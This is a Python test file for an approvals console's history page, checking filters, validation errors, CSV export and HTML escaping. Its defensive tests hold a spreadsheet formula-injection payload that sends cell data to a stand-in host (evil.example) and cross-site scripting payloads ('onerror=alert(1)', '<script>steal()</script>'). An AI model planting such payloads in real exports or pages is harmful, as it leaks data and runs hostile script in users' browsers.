"""History: filters over the real wire, and a CSV export a spreadsheet cannot be tricked by."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

from api.approvals.actors import Actor
from tests.conftest import REFUND
from tests.console_helpers import VIEWER, console_harness
from tests.slack_helpers import APPROVER, PAYOUT

DANA = Actor("slack_user", APPROVER, "Dana Reviewer")


async def test_history_filters_by_status_action_person_date_and_amount(make_settings: Callable[..., Any],
                                                                        clock: Any) -> None:
    async with console_harness(make_settings, clock) as h:
        small = (await h.request({**REFUND, "execute": False,
                                  "details": {**REFUND["details"], "amount_cents": 1500}}))["approvalId"]
        large = (await h.request({**REFUND, "execute": False}))["approvalId"]
        payout = (await h.request(PAYOUT))["approvalId"]
        await h.container.decisions.decide(large, DANA, "reject", note="no")
        await h.sign_in(VIEWER)

        async def shown(**query: str) -> set[str]:
            page = await h.http.get("/console/history", params=query)
            assert page.status_code == 200, page.text
            return {a for a in (small, large, payout) if a in page.text}

        today = clock().date()
        assert await shown() == {small, large, payout}
        assert await shown(status="rejected") == {large}
        assert await shown(action="create_payout") == {payout}
        assert await shown(person=APPROVER) == {large}
        assert await shown(person="Dana Reviewer") == {large}
        assert await shown(min_amount="100", max_amount="400") == {large}  # $349.00, not $15.00 nor $500.00
        assert await shown(min_amount="400") == {payout}
        assert await shown(since=str(today), until=str(today)) == {small, large, payout}
        assert await shown(since=str(today + timedelta(days=1))) == set()
        connection = (await h.container.approvals.get(None, small)).connection_id
        assert await shown(connection=connection) == {small, large, payout}
        assert await shown(connection="con_other") == set()


async def test_bad_filters_are_named_not_a_500(make_settings: Callable[..., Any], clock: Any) -> None:
    async with console_harness(make_settings, clock) as h:
        await h.sign_in(VIEWER)
        for query, named in (({"status": "won"}, "status"), ({"since": "yesterday"}, "since"),
                             ({"min_amount": "ten"}, "min_amount"), ({"action": "x" * 500}, "action")):
            page = await h.http.get("/console/history", params=query)
            assert page.status_code == 422 and named in page.text, query
            exported = await h.http.get("/console/history.csv", params=query)
            assert exported.status_code == 422, query


async def test_csv_export_defuses_formulas_in_agent_text(make_settings: Callable[..., Any], clock: Any) -> None:
    async with console_harness(make_settings, clock) as h:
        evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
        apr = (await h.request({**REFUND, "execute": False, "summary": evil}))["approvalId"]
        await h.container.decisions.decide(apr, DANA, "approve", note="@SUM(1+1)")
        await h.sign_in(VIEWER)
        exported = await h.http.get("/console/history.csv", params={"status": "approved"})
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        assert "attachment" in exported.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        assert len(rows) == 1
        row = rows[0]
        assert row["approvalId"] == apr and row["amountMinor"] == "34900" and row["currency"] == "usd"
        assert row["summary"] == "'" + evil and row["decisionNote"] == "'@SUM(1+1)"
        assert row["decidedBy"] == "Dana Reviewer"


async def test_agent_text_is_shown_as_text_not_markup(make_settings: Callable[..., Any], clock: Any) -> None:
    async with console_harness(make_settings, clock) as h:
        apr = (await h.request({**REFUND, "execute": False, "summary": "<img src=x onerror=alert(1)> refund",
                                "justification": "</pre><script>steal()</script>"}))["approvalId"]
        await h.sign_in(VIEWER)
        for path in ("/console", f"/console/requests/{apr}", "/console/history"):
            page = await h.http.get(path)
            assert "<img src=x" not in page.text and "<script>" not in page.text
            assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
